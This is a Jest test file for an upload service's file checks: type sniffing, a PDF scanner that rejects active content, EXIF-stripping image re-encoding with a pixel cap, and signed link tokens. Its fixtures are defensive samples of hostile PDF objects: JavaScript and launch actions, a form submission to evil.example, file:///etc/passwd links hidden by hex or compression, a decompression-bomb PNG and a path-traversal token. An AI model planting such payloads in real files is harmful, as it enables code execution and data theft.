import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { AppException } from '../../common/app-exception';
import { imagePixels, pdfProblem, prepareFile, sniff } from './file-content';
import { bilevelPng } from '../../../test/png';
import { linkSignatureValid, readLinkToken, signLinkToken } from './link-token';

/** A one-page PDF with `extra` objects appended before the trailer. */
function pdf(extra = ''): Buffer {
  return Buffer.from(
    '%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n' +
      '2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n' +
      '3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >> endobj\n' +
      extra +
      'trailer << /Root 1 0 R >>\n%%EOF\n',
    'latin1',
  );
}

function objectStream(objects: string, filter = '/FlateDecode'): string {
  const body = filter ? deflateSync(Buffer.from(objects, 'latin1')) : Buffer.from(objects, 'latin1');
  return `9 0 obj << /Type /ObjStm /N 1 /First 4 /Filter ${filter} /Length ${body.length} >>\nstream\n${body.toString('latin1')}\nendstream\nendobj\n`;
}

describe('sniff', () => {
  it('knows JPEG, PNG, WebP and PDF by their first bytes', async () => {
    const base = sharp({ create: { width: 4, height: 4, channels: 3, background: 'red' } });
    expect(sniff(await base.clone().jpeg().toBuffer())).toBe('jpeg');
    expect(sniff(await base.clone().png().toBuffer())).toBe('png');
    expect(sniff(await base.clone().webp().toBuffer())).toBe('webp');
    expect(sniff(pdf())).toBe('pdf');
  });

  it('knows nothing else, whatever the file is called', () => {
    expect(sniff(Buffer.from('\x7fELF\x02\x01\x01', 'latin1'))).toBeNull();
    expect(sniff(Buffer.from('MZ\x90\x00', 'latin1'))).toBeNull();
    expect(sniff(Buffer.from('GIF89a', 'latin1'))).toBeNull();
    expect(sniff(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>'))).toBeNull();
    expect(sniff(Buffer.from('PK\x03\x04', 'latin1'))).toBeNull();
    expect(sniff(Buffer.alloc(0))).toBeNull();
  });
});

describe('pdfProblem', () => {
  it('accepts a plain PDF', () => {
    expect(pdfProblem(pdf())).toBeNull();
  });

  it('refuses scripts, launch actions and embedded files, also when the name is #-escaped', () => {
    expect(pdfProblem(pdf('4 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj\n'))).toBe('active_content');
    expect(pdfProblem(pdf('4 0 obj << /S /Java#53cript /J#53 (app.alert(1)) >> endobj\n'))).toBe('active_content');
    expect(pdfProblem(pdf('4 0 obj << /S /Launch /F (calc.exe) >> endobj\n'))).toBe('active_content');
    expect(pdfProblem(pdf('4 0 obj << /Type /EmbeddedFile >> endobj\n'))).toBe('active_content');
    expect(pdfProblem(pdf('4 0 obj << /S /Rendition /JS 5 0 R >> endobj\n'))).toBe('active_content');
  });

  it('refuses form submission, data import, remote go-to actions and links to files', () => {
    expect(pdfProblem(pdf('4 0 obj << /S /SubmitForm /F (https://evil.example/collect) >> endobj\n'))).toBe('active_content');
    expect(pdfProblem(pdf('4 0 obj << /S /ImportData /F (data.fdf) >> endobj\n'))).toBe('active_content');
    expect(pdfProblem(pdf('4 0 obj << /S /GoToR /F (other.pdf) /D [0 /Fit] >> endobj\n'))).toBe('active_content');
    expect(pdfProblem(pdf('4 0 obj << /S /GoToE /T << /R /C /N (x) >> >> endobj\n'))).toBe('active_content');
    expect(pdfProblem(pdf('4 0 obj << /S /Sub#6DitForm >> endobj\n'))).toBe('active_content');
    expect(pdfProblem(pdf('4 0 obj << /S /URI /URI (file:///C:/Windows/System32/calc.exe) >> endobj\n'))).toBe('active_content');
    expect(pdfProblem(pdf('4 0 obj << /S /URI /URI (\\\\\\\\fileserver\\\\share\\\\a.exe) >> endobj\n'))).toBe('active_content');
    expect(pdfProblem(pdf('4 0 obj << /S /URI /URI (javascript:alert\\(1\\)) >> endobj\n'))).toBe('active_content');
    const hexFile = Buffer.from('file:///etc/passwd').toString('hex');
    expect(pdfProblem(pdf(`4 0 obj << /S /URI /URI <${hexFile}> >> endobj\n`))).toBe('active_content');
    expect(pdfProblem(pdf(objectStream('4 0 << /S /URI /URI (file:///etc/passwd) >>')))).toBe('active_content');
    expect(pdfProblem(pdf(objectStream('4 0 << /S /SubmitForm /F (x) >>')))).toBe('active_content');
    // Links to web pages and mail addresses are ordinary in official documents.
    expect(pdfProblem(pdf('4 0 obj << /S /URI /URI (https://www.gov.cn/zhengce/) >> endobj\n'))).toBeNull();
    expect(pdfProblem(pdf('4 0 obj << /S /URI /URI (mailto:zgh@example.cn) >> endobj\n'))).toBeNull();
    expect(pdfProblem(pdf(objectStream('4 0 << /S /URI /URI (http://example.cn/a\\)b) >>')))).toBeNull();
  });

  it('refuses an encrypted PDF', () => {
    expect(pdfProblem(Buffer.from(pdf().toString('latin1').replace('trailer <<', 'trailer << /Encrypt 8 0 R'), 'latin1'))).toBe(
      'encrypted',
    );
  });

  it('looks inside compressed object streams', () => {
    expect(pdfProblem(pdf(objectStream('4 0 << /S /JavaScript /JS (x) >>')))).toBe('active_content');
    expect(pdfProblem(pdf(objectStream('4 0 << /S /Rendition /JS (x) >>')))).toBe('active_content');
    expect(pdfProblem(pdf(objectStream('4 0 << /Type /Font >>')))).toBeNull();
    expect(pdfProblem(pdf(objectStream('4 0 << /Type /Font >>', '/LZWDecode')))).toBe('unreadable');
    // Keys that look like an object header, or long padding, do not hide the stream's type.
    const padded = objectStream('4 0 << /S /JavaScript /JS (x) >>').replace('/N 1', `/Xobj 1 /Pad (${'p'.repeat(10000)}) /N 1`);
    expect(pdfProblem(pdf(padded))).toBe('active_content');
    const doubled = deflateSync(deflateSync(Buffer.from('4 0 << /S /JavaScript /JS (x) >>', 'latin1')));
    const twice = `9 0 obj << /Type /ObjStm /Filter [/FlateDecode /FlateDecode] /Length ${doubled.length} >>\nstream\n${doubled.toString('latin1')}\nendstream\nendobj\n`;
    expect(pdfProblem(pdf(twice))).toBe('unreadable');
  });

  it('does not mistake "/JS" bytes inside an ordinary stream for a script', () => {
    const noise = 'xx/JS yy';
    expect(pdfProblem(pdf(`5 0 obj << /Length ${noise.length} >>\nstream\n${noise}\nendstream\nendobj\n`))).toBeNull();
  });
});

describe('prepareFile', () => {
  // UPLOAD_MAX_PIXELS' default.
  const limits = { maxPixels: 40_000_000 };
  it('re-encodes images to upright JPEG without EXIF, with the longest side capped', async () => {
    const photo = await sharp({ create: { width: 3000, height: 1000, channels: 3, background: { r: 10, g: 120, b: 40 } } })
      .jpeg()
      .withMetadata({ orientation: 6 })
      .withExif({ IFD0: { Make: 'TestCam' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '30/1 35/1 0/1' } })
      .toBuffer();
    const out = await prepareFile(photo, limits);
    expect(out).toMatchObject({ kind: 'image', mime: 'image/jpeg', extension: 'jpg' });
    const meta = await sharp(out.bytes).metadata();
    expect([meta.width, meta.height]).toEqual([853, 2560]);
    expect(meta.exif).toBeUndefined();
    expect(meta.xmp).toBeUndefined();
    expect(meta.orientation).toBeUndefined();
  });

  it('keeps a clean PDF byte for byte', async () => {
    const file = pdf();
    expect((await prepareFile(file, limits)).bytes.equals(file)).toBe(true);
  });

  it('refuses an image of more than 40 megapixels by its header, before decoding it, with a clear message', async () => {
    const huge = bilevelPng(8000, 8000); // 64 MP in a few kilobytes
    expect(huge.length).toBeLessThan(100_000);
    expect(await imagePixels(huge)).toBe(64_000_000);
    const refusal = await prepareFile(huge, limits).catch((err: unknown) => err);
    expect(refusal).toBeInstanceOf(AppException);
    expect(refusal).toMatchObject({
      code: 'file_too_large',
      publicMessage: '图片像素太多（最多 4000 万像素），请调低相机分辨率或截图后再上传',
    });
    // The limit is configurable (UPLOAD_MAX_PIXELS); just under it is decoded as usual.
    await expect(prepareFile(bilevelPng(2000, 1000), { maxPixels: 1_999_999 })).rejects.toMatchObject({ code: 'file_too_large' });
    await expect(prepareFile(bilevelPng(2000, 1000), { maxPixels: 2_000_000 })).resolves.toMatchObject({ kind: 'image' });
  });

  it('refuses what is not an accepted type, and a broken image', async () => {
    await expect(prepareFile(Buffer.from('MZ\x90\x00\x03', 'latin1'), limits)).rejects.toMatchObject({ code: 'file_type_not_allowed' });
    await expect(prepareFile(Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 0, 0]), limits)).rejects.toBeInstanceOf(AppException);
  });
});

describe('link tokens', () => {
  const key = Buffer.alloc(32, 7);
  const until = new Date(Date.now() + 60_000);

  it('verifies a token for the same upload only', () => {
    const claims = readLinkToken(signLinkToken(key, 42, 'uid-a', until));
    expect(claims).toMatchObject({ uploadId: 42 });
    expect(linkSignatureValid(key, claims!, 'uid-a')).toBe(true);
    expect(linkSignatureValid(key, claims!, 'uid-b')).toBe(false);
    expect(linkSignatureValid(Buffer.alloc(32, 8), claims!, 'uid-a')).toBe(false);
  });

  it('refuses a token whose id or expiry was changed', () => {
    const [id, exp, mac] = signLinkToken(key, 42, 'uid-a', until).split('.');
    const later = readLinkToken(`${id}.${(parseInt(exp, 36) + 3600).toString(36)}.${mac}`);
    expect(linkSignatureValid(key, later!, 'uid-a')).toBe(false);
    expect(readLinkToken(`${id}.${exp}`)).toBeNull();
    expect(readLinkToken('../../etc/passwd')).toBeNull();
  });
});
